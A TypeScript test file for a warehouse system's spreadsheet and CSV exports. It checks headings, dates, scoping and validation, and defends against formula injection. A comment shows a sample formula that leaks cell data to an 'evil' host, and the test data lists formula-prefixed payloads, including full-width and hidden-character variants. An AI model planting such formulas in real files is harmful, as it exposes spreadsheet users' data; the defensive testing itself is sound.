// Any list as a workbook or as CSV: the same rows, the same scope and masks, and nothing in it that a program would run.
import { like, sql } from 'drizzle-orm'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { containerTypes } from '#server/wms/schema/tables.ts'
import { dictionary } from '#shared/contracts/base/lists.ts'
import { location } from '#shared/contracts/base/location.ts'
import { zone } from '#shared/contracts/base/zone.ts'
import type { Call, CallResult } from '#shared/contracts/definition/call.ts'
import { container, containerType } from '#shared/contracts/equipment/container.ts'
import { monthRecord, workRecord } from '#shared/contracts/labor/work-record.ts'
import { employee } from '#shared/contracts/people/employee.ts'
import * as balances from '#shared/contracts/stock/balance.ts'
import { localTimeOf } from '#shared/domain/calendar.ts'
import type { Envelope } from '#shared/envelope.ts'
import { download, sheetOf, TEST_PACE, untilEnded, upload } from '#tests/support/tasks.ts'
import { BACKENDS, startWms, type TestWms } from '#tests/support/wms.ts'
import { partOf } from '#tests/support/workbook.ts'

let commands = 0
const nextOpId = () => `export-operation-${++commands}`

describe.each(BACKENDS)('on %s', (backend) => {
  let wms: TestWms
  let admin: string
  let clerk: string

  beforeAll(async () => {
    wms = await startWms({ backend, tasks: TEST_PACE })
    admin = await wms.signIn('admin')
    clerk = await wms.signIn('clerk')
  })
  afterAll(() => wms.close())

  async function exported({ path }: Call, filters: Record<string, unknown>, token = clerk) {
    const body = { ...filters, opId: nextOpId() }
    const answered = await wms.send({ method: 'POST', path, body, token })
    const envelope = answered.envelope as Envelope<CallResult<typeof zone.export>>
    expect(envelope.message).toBe('success')
    const task = await untilEnded(wms, envelope.data.id, token)
    expect(task).toMatchObject({ state: '可下载', error: null })
    return { task, answer: await download(wms, task.fileName, token) }
  }

  test('has Chinese headings, names beside codes, numbers as numbers, and the list’s filters and order', async () => {
    const { task, answer } = await exported(zone.export, { warehouse: 'SHQP', sort: '-seq' })
    expect(task.fileName).toMatch(/^库区-\d{8}-\d{6}\.xlsx$/)
    expect(answer.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    )
    const [headings, first, ...rest] = await sheetOf(answer.rawPayload)
    expect(headings).toEqual([
      '编号',
      '仓库',
      '仓库名称',
      '库区编码',
      '库区名称',
      '用途',
      '储存条件',
      '顺序',
      '状态',
      '更新时间',
    ])
    expect(first?.slice(1, 6)).toEqual(['SHQP', '上海青浦仓', 'FH', '发货暂存区', '发货暂存'])
    expect(first?.[0]).toBeTypeOf('number')
    expect(first?.[9]).toBeInstanceOf(Date)
    expect(rest).toHaveLength(4)
  })

  test('has days and moments that programs filter by month, as the list has them, and a heading that stays', async () => {
    const { envelope } = await wms.call(employee.list, { body: { size: 50, sort: 'empNo' } }, admin)
    const { answer } = await exported(employee.export, { sort: 'empNo' }, admin)
    const [headings = [], ...rows] = await sheetOf(answer.rawPayload)
    const cells = (label: string) => rows.map((row) => row[headings.indexOf(label)]).slice(0, 50)
    const { hireDate, updatedAt } = employee.fields
    // A moment is a part of a day, and no such part is whole.
    const textOf = (cell: unknown) =>
      new Date(Math.round((cell as Date).getTime() / 1000) * 1000).toISOString().slice(0, 19)
    expect(cells(hireDate.label).map(textOf)).toEqual(
      envelope.data.rows.map((row) => `${row.hireDate}T00:00:00`),
    )
    expect(cells(updatedAt.label).map(textOf)).toEqual(
      envelope.data.rows.map((row) => localTimeOf(new Date(row.updatedAt)).slice(0, 19)),
    )
    const sheet = await partOf(answer.rawPayload, 'xl/worksheets/sheet1.xml')
    expect(sheet).toContain('state="frozen"')
    expect(sheet).toMatch(new RegExp(`</sheetData><autoFilter ref="A1:[A-Z]+${rows.length + 1}"/>`))
  })

  test('of a month of hours is the calendar: narrowed like it, day by day, with what they come to', async () => {
    const hours = {
      worker: 'G10001',
      businessDate: '2026-03-09',
      shift: '白班' as const,
      hours: '8',
      overtime: '1.5',
    }
    await wms.call(workRecord.create, { body: { ...hours, opId: nextOpId() } }, admin)
    const asked = { month: '2026-03', team: 'SHQP-RK', worker: ['G10001', 'G10002'] }
    const { answer } = await exported(monthRecord.export, asked, admin)
    const [headings = [], ...people] = await sheetOf(answer.rawPayload)
    const [own] = people.map((cells) => Object.fromEntries(headings.map((name, at) => [name, cells[at]])))
    expect([people.length, headings.includes('31日')]).toEqual([1, true])
    expect(own).toMatchObject({
      员工: 'G10001',
      班组: 'SHQP-RK',
      '9日': 9.5,
      出勤天数: 1,
      合计工时: 9.5,
      加班: 1.5,
      '请假(h)': 0,
    })
  })

  test('is CSV that spreadsheet programs read as UTF-8', async () => {
    const { answer } = await exported(zone.export, { warehouse: 'GZBY', format: 'csv' })
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8')
    const lines = answer.payload.split('\r\n')
    expect(lines[0]).toBe('\ufeff编号,仓库,仓库名称,库区编码,库区名称,用途,储存条件,顺序,状态,更新时间')
    expect(lines).toHaveLength(7)
  })

  test('of nothing has headings alone', async () => {
    const { task, answer } = await exported(zone.export, { code: 'NOPE' })
    expect(task).toMatchObject({ result: '已导出0行', done: 1, total: 1 })
    expect(await sheetOf(answer.rawPayload)).toHaveLength(1)
  })

  test('holds nothing outside the caller’s warehouses, asked for by name or not', async () => {
    const { answer } = await exported(location.export, { format: 'csv' })
    expect(answer.payload).toContain('SHQP')
    expect(answer.payload).not.toContain('CDSL')
    const third = await exported(zone.export, { warehouse: 'CDSL', format: 'csv' })
    expect(third.answer.payload.trim().split('\r\n')).toHaveLength(1)
    const all = await exported(zone.export, { warehouse: 'CDSL', format: 'csv' }, admin)
    expect(all.answer.payload).toContain('CDSL')
  })

  test('is its user’s alone', async () => {
    const { task } = await exported(zone.export, {})
    expect((await download(wms, task.fileName, admin)).statusCode).toBe(404)
  })

  test('sent twice under one id is made once', async () => {
    const body = { opId: nextOpId() }
    const [first, second] = [
      await wms.call(zone.export, { body }, clerk),
      await wms.call(zone.export, { body }, clerk),
    ]
    expect(second.envelope.data).toEqual(first.envelope.data)
  })

  test.each([
    [{ format: 'pdf' }, '请选择导出格式'],
    [{ sort: 'nothing' }, '不能按此字段排序'],
    [{ name: 7 }, '库区名称须为文字'],
    [{ opId: undefined }, '缺少操作编号'],
  ])('is refused for %j', async (wrong, message) => {
    const body = { opId: nextOpId(), ...wrong }
    const { envelope } = await wms.send({ method: 'POST', path: zone.export.path, body, token: clerk })
    expect(envelope).toMatchObject({ code: 400, message })
  })

  /**
   * Formula injection (CSV injection): somebody names a record `=HYPERLINK("http://evil?"&A1)`. A colleague opens the
   * export, and their spreadsheet program runs it, with their files within reach.
   */
  describe('a name that is a formula', () => {
    const names = ['=1+1', '+1', '-1+1', '@SUM(A1)', '\tcmd', '<b>&"quoted"', '_x000D_', '甲,乙']
    /** Programs of East Asia read the wide signs as the narrow ones, and none is stopped by what nobody sees. */
    const wide = ['＝1+1', '－1', '＠A1', '﹢1', '％=1', ' =1', '\u200b=1', '\u3000＝1', "'=1"]
    const codesOf = (of: readonly string[], prefix: string) => of.map((_, index) => `${prefix}${index}`)
    const codes = codesOf(names, 'EVIL')
    const wideCodes = codesOf(wide, 'WIDE')

    beforeAll(async () => {
      // A negative tare is refused; here it is the number that begins with a sign.
      const rows = [
        ...names.map((name, index) => [codes[index], name, -12.5]),
        ...wide.map((name, index) => [wideCodes[index], name, 12.5]),
      ]
      for (const [code, name, tare] of rows) {
        await wms.database.orm.execute(sql`insert into container_types
          (code, name, category, slots, reusable, tare_weight) values
          (${code}, ${name}, '托盘', 1, true, ${tare})`)
      }
    })

    test('is text in a workbook, and comes back as it was', async () => {
      const { answer } = await exported(containerType.export, { code: codes.join(',') })
      const [, ...rows] = await sheetOf(answer.rawPayload)
      // The library that reads it trims.
      expect(rows.map((row) => row[1])).toEqual(names.map((name) => name.trim()))
      expect(rows[0]?.[6]).toBe(-12.5)
    })

    test('is text in CSV, where a negative number stays a number', async () => {
      const { answer } = await exported(containerType.export, { code: codes.join(','), format: 'csv' })
      const lines = answer.payload.split('\r\n').slice(1, -1)
      expect(lines.map((line) => line.slice(6, line.indexOf(',托盘')))).toEqual([
        "'=1+1",
        "'+1",
        "'-1+1",
        "'@SUM(A1)",
        "'\tcmd",
        '"<b>&""quoted"""',
        '_x000D_',
        '"甲,乙"',
      ])
      expect(lines[0]).toContain(',-12.5,')
    })

    test('is text in CSV whatever the width of its sign and whatever stands before it, and comes back', async () => {
      const { answer } = await exported(containerType.export, { code: wideCodes.join(','), format: 'csv' })
      const lines = answer.payload.split('\r\n').slice(1, -1)
      expect(lines.map((line) => line.slice(6, line.indexOf(',托盘')))).toEqual(
        wide.map((name) => `'${name}`),
      )
      await wms.database.orm.execute(sql`delete from container_types where code like 'WIDE%'`)
      const kept = await upload(wms, { fileName: '容器.csv', content: answer.rawPayload, token: admin })
      const body = { fileName: kept.json().data.fileName, mode: '全部导入', opId: nextOpId() } as const
      const begun = await wms.call(containerType.import, { body }, admin)
      expect(await untilEnded(wms, begun.envelope.data.id, admin)).toMatchObject({
        result: `已导入${wide.length}行`,
      })
      const rows = await wms.database.orm
        .select({ name: containerTypes.name })
        .from(containerTypes)
        .where(like(containerTypes.code, 'WIDE%'))
        .orderBy(containerTypes.code)
      expect(rows.map(({ name }) => name)).toEqual(wide.map((name) => name.replace('\u200b', '').trim()))
    })
  })

  test('writes choices in the words that people know them by', async () => {
    const filters = { type: 'quality,zoneUsage' }
    const { answer } = await exported(dictionary.export, filters)
    const [headings, ...rows] = await sheetOf(answer.rawPayload)
    const at = headings?.indexOf('字典类型') ?? -1
    expect(new Set(rows.map((row) => row[at]))).toEqual(new Set(['品质', '库区用途']))
  })

  describe('of the stock', () => {
    const GRAINS = [
      ['location', balances.getLocationInventory, ['库位', '仓库', '货主', '商品']],
      ['goods', balances.getBasicLocationInventory, ['仓库', '货主', '商品']],
      ['balance', balances.getAllLocationInventory, ['批次', '品质', '库位', '容器']],
      ['lot', balances.getSeparationLocationInventory, ['批次', '品质', '仓库']],
    ] as const

    /** More than are read at once, in any grain that tells lots apart. */
    beforeAll(async () => {
      await wms.database.orm.execute(sql`insert into stock_balances
        (warehouse, owner, sku, lot, quality, loc, container, on_hand, allocated, frozen, version)
        select 'SHQP', 'YCFS', 'YCFS0001', 'P' || lpad(i::text, 4, '0'), '良品', 'JX-01-01-1', 'C' || i, i, 0, 0, 1
        from generate_series(1, 1100) i`)
    })

    async function listed({ path }: Call, filters: object) {
      const rows: Record<string, unknown>[] = []
      for (let page = 1; ; page++) {
        const body = { ...filters, page, size: 200 }
        const { envelope } = await wms.send({ method: 'POST', path, token: clerk, body })
        const found = envelope.data as { rows: Record<string, unknown>[]; total: number }
        rows.push(...found.rows)
        if (rows.length >= found.total) return rows
      }
    }

    test.each(GRAINS)('by %s: all rows of its list, in its order', async (grain, list, headings) => {
      const filters = { warehouse: 'SHQP', owner: 'YCFS' }
      const rows = await listed(list, filters)
      const { task, answer } = await exported(balances.exportStock[grain], filters)
      expect(task).toMatchObject({ result: `已导出${rows.length}行`, done: rows.length, total: rows.length })
      const [first, ...cells] = await sheetOf(answer.rawPayload)
      expect(first).toEqual(expect.arrayContaining([...headings, '在库数量', '可用']))
      const columns = ['商品', '在库数量', ...headings].map((heading) => first?.indexOf(heading) ?? -1)
      const fields = Object.entries(balances.balance.fields)
      const names = columns.map((at) => fields.find(([, { label }]) => label === first?.[at])?.[0] ?? '')
      const shown = cells.map((row) => columns.map((at) => String(row[at] ?? '')))
      expect(shown).toEqual(rows.map((row) => names.map((name) => String(row[name]))))
    })

    test('holds nothing outside the caller’s warehouses, and no filter that is none', async () => {
      const { task } = await exported(balances.exportStock.goods, { warehouse: 'CDSL' })
      expect(task.result).toBe('已导出0行')
      const all = await exported(balances.exportStock.goods, { warehouse: 'CDSL', format: 'csv' }, admin)
      expect(all.answer.payload).toContain('CDSL')
      const body = { opId: nextOpId(), sku: 7 }
      const { path } = balances.exportStock.lot
      const { envelope } = await wms.send({ method: 'POST', path, body, token: clerk })
      expect(envelope.code).toBe(400)
    })
  })

  test('of documents works the same', async () => {
    const { task } = await exported(container.export, { state: '空闲' })
    expect(task.result).toMatch(/^已导出\d+行$/)
  })
})
